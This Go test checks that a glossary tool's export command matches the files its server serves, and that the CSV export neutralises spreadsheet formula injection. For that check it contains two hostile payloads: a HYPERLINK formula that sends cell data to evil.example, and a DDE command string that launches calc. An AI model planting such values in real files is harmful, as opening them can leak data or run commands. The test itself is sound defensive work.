package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"wordgarden/server"
	"wordgarden/server/opendata"
	"wordgarden/server/store"
)

// TestExportOpenData checks that `wordgarden export --format` writes the
// very files the site serves, given the same site address and licence.
// It is not parallel: it sets an environment variable.
func TestExportOpenData(t *testing.T) {
	dir := t.TempDir()
	db, out := filepath.Join(dir, "w.db"), filepath.Join(dir, "data")
	st, err := store.Open(db, cheapHashing)
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	if err := loadStarter(ctx, st, io.Discard); err != nil {
		t.Fatal(err)
	}
	if err := loadDemo(ctx, st, io.Discard); err != nil { // a vote that settled a wording
		t.Fatal(err)
	}
	// A hostile title, summary and definition, which the CSV guards
	// against spreadsheets running them as formulas.
	const hostile = `=HYPERLINK("https://evil.example/?d="&A1,"Click")`
	if _, err := st.ImportTerm(ctx, hostile, "+1+cmd|' /C calc'!A0", "- a list\n- of two"); err != nil {
		t.Fatal(err)
	}
	const site = "https://glossary.example.org"
	srv, err := server.New(server.Config{Store: st, SessionKey: bytes.Repeat([]byte("k"), 32),
		Logger: slog.New(slog.NewTextHandler(io.Discard, nil)), SiteURL: site, Licence: opendata.CCBY})
	if err != nil {
		t.Fatal(err)
	}
	served := map[string][]byte{}
	for _, f := range opendata.Formats {
		rec := httptest.NewRecorder()
		srv.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/"+f.File, nil))
		if rec.Code != http.StatusOK {
			t.Fatalf("GET /%s: %d", f.File, rec.Code)
		}
		served[f.File] = rec.Body.Bytes()
	}
	st.Close()

	for _, f := range opendata.Formats {
		code, stdout, stderr := wg(t, "", "export", "--db", db, "--format", f.Name, "--site-url", site+"/", "--licence", "cc-by-4.0", out)
		if code != 0 {
			t.Fatalf("export --format %s: exit %d: %s", f.Name, code, stderr)
		}
		if !strings.Contains(stdout, filepath.Join(out, f.File)) || !strings.Contains(stdout, opendata.CCBY.Name) {
			t.Errorf("export --format %s said %q", f.Name, stdout)
		}
		got, err := os.ReadFile(filepath.Join(out, f.File))
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got, served[f.File]) {
			t.Errorf("%s as exported differs from GET /%s:\n%.300s\n---\n%.300s", f.File, f.File, got, served[f.File])
		}
		if !bytes.Contains(got, []byte(site+"/terms/care-navigator")) {
			t.Errorf("%s has no URI for care navigator", f.File)
		}
		if f.Name == "csv" {
			rows, err := csv.NewReader(bytes.NewReader(got)).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			var guarded []string
			for _, row := range rows {
				if row[0] == "hyperlink-https-evil-example-d-and-a1-click" {
					guarded = row[1:5]
				}
			}
			want := []string{"'" + hostile, site + "/terms/hyperlink-https-evil-example-d-and-a1-click", "'+1+cmd|' /C calc'!A0", "'- a list\n- of two"}
			if !slices.Equal(guarded, want) {
				t.Errorf("the hostile term's title, uri, summary and definition in %s = %q, want %q", f.File, guarded, want)
			}
		}
	}

	// The site address can come from the environment.
	t.Setenv("WORDGARDEN_SITE_URL", site)
	if code, _, stderr := wg(t, "", "export", "--db", db, "--format", "json", filepath.Join(dir, "env")); code != 0 {
		t.Errorf("export with WORDGARDEN_SITE_URL: exit %d: %s", code, stderr)
	}
	t.Setenv("WORDGARDEN_SITE_URL", "")

	for _, bad := range []struct {
		args []string
		says string
	}{
		{[]string{"--format", "xml"}, `no format "xml"`},
		{[]string{"--format", "json"}, "--site-url"},
		{[]string{"--format", "csv", "--site-url", "glossary.example.org"}, "not an http:// or https:// address"},
		{[]string{"--format", "skos", "--site-url", site, "--licence", "mit"}, `no licence "mit": choose one of ogl-3.0, cc-by-4.0`},
	} {
		args := append(append([]string{"export", "--db", db}, bad.args...), filepath.Join(dir, "bad"))
		code, _, stderr := wg(t, "", args...)
		if code != 2 || !strings.Contains(stderr, bad.says) {
			t.Errorf("%v: exit %d, %q; want 2 saying %q", bad.args, code, stderr, bad.says)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "bad")); !os.IsNotExist(err) {
		t.Error("a refused export wrote a folder")
	}
}
